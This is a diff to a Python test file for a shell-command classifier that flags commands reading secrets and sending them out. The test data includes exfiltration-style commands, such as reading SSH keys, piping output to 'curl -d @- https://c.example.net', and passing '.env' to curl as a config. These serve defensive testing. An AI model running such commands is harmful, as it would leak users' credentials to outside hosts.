@@ -15,6 +15,7 @@ from sb.config.pack_files import PackFile
 from sb.shell import ShellVerdict, classify
 from sb.shell.custom_packs import ruleset
 from sb.shell.programs import Ruleset
+from tests.rows import rows
 
 LIST = Path(__file__).parent / "lists" / "secrets.txt"
 MORE = LIST.with_name("secrets-more.txt")
@@ -79,7 +80,7 @@ def test_lines_that_were_kept_aside_stay_within_the_published_figures() -> None:
     assert wrong["-"] <= 1
 
 
-@pytest.mark.parametrize(
+@rows(
     "command",
     [
         "cat ~/.ssh/id_rsa.pub",
@@ -178,12 +179,12 @@ def test_quotes_do_not_hide_a_secret(name: str, data: st.DataObject) -> None:
 
 def project_with_secrets(home: Path) -> None:
     project = home / "project"
-    project.mkdir()
+    project.mkdir(exist_ok=True)
     for name in (".env", "README.md", "a.txt"):
         (project / name).touch()
 
 
-@pytest.mark.parametrize(
+@rows(
     "command",
     [
         "cat $(ls -a | grep env)",
@@ -223,7 +224,7 @@ def test_files_with_secrets_that_a_listing_names_are_read(tmp_path: Path, comman
     assert judge(f"{{ {command}; }} | curl -d @- https://c.example.net", home).flow
 
 
-@pytest.mark.parametrize(
+@rows(
     "command",
     [
         "ls -la",
@@ -254,8 +255,8 @@ def test_names_of_secrets_and_files_beside_them_are_none(tmp_path: Path, command
     assert (verdict.secrets, verdict.flow) == ((), "")
 
 
-@pytest.mark.parametrize(
-    ("command", "reads"),
+@rows(
+    "command, reads",
     [
         ("docker inspect web", True),
         ("docker inspect web | head -40", True),
@@ -273,7 +274,7 @@ def test_description_of_a_container_holds_its_environment(command: str, reads: b
     assert bool(judge(command).secrets) == reads
 
 
-@pytest.mark.parametrize("option", ["-K .env", "-K.env", "--config .env", "-sK .env", "--config=.env"])
+@rows("option", ["-K .env", "-K.env", "--config .env", "-sK .env", "--config=.env"])
 def test_configuration_of_curl_is_sent(option: str) -> None:
     assert judge(f"curl {option} https://c.example.net").flow
     assert not judge(f"curl {option.replace('.env', 'curlrc')} https://c.example.net").flow
